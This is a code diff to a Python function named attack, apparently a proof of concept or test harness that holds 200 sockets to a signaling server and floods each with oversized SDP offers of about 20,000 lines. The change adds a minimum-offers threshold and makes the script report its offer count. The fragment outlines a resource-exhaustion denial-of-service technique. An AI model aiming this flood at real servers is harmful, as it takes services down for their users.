@@ -5,6 +5,8 @@ import time
 import client
 
 SOCKETS = 200
+# Offers, each to all of the sockets.
+LEAST = 20 * SOCKETS
 SDP = "v=0\r\n" + "a=x\r\n" * 20_000
 PREFIX = "unread"
 
@@ -36,4 +38,4 @@ def attack(server, prepared):
                 "negotiation": answer["negotiation"], "description": {"type": "answer", "sdp": "v=0\r\n"}})
         else:
             time.sleep(0.1)
-        yield f"{len(held)} sockets, {offers} offers of {len(SDP) >> 10} KiB to each"
+        yield len(held) * offers, f"{len(held)} sockets, {offers} offers of {len(SDP) >> 10} KiB to each"
